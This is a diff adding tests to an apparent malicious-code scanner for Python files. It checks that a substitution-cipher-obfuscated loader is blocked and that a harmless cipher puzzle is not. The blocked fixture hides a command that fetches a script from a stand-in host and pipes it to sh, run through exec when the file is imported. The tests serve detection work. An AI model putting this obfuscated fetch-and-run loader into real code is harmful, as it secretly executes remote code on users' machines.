@@ -248,3 +248,34 @@ def test_project_settings_in_a_map_posted_do_not_block(tmp_path: Path) -> None:
         "r.end(JSON.stringify([...m]));\n"
     )
     assert blocking(tmp_path, {"check.js": js}) == {}
+
+
+# ------------------------------------------------ Python: a substitution table held by a name, sliced constants
+
+
+def _enc(text: str, a: str, b: str) -> str:
+    return text.translate(str.maketrans(a, b))
+
+
+_ABC = "abcdefghijklmnopqrstuvwxyz0123456789./:"
+
+
+def test_substitution_cipher_through_a_named_table_and_sliced_alphabet_blocks(tmp_path: Path) -> None:
+    shifted = _ABC[9:] + _ABC[:9]
+    hidden = _enc("import os; os.system('wget -qO- https://m.example.test/k | sh')", _ABC, shifted)
+    py = (
+        f"ABC = {_ABC!r}\nKEY = ABC[9:] + ABC[:9]\nBLOB = {hidden!r}\n\n"
+        "def setup():\n    table = str.maketrans(KEY, ABC)\n    code = BLOB.translate(table)\n"
+        "    exec(code)\n\nsetup()\n"
+    )
+    assert "SY-OBF-009" in blocking(tmp_path, {"tool/theme.py": py})
+
+
+def test_named_table_used_on_text_that_is_printed_does_not_block(tmp_path: Path) -> None:
+    shifted = _ABC[3:] + _ABC[:3]
+    py = (
+        f"ABC = {_ABC!r}\nKEY = ABC[3:] + ABC[:3]\n\n"
+        "def encode(s):\n    table = str.maketrans(ABC, KEY)\n    return s.translate(table)\n\n"
+        f"print(encode('meet at noon'), {_enc('attack at dawn', _ABC, shifted)!r})\n"
+    )
+    assert blocking(tmp_path, {"puzzles.py": py}) == {}
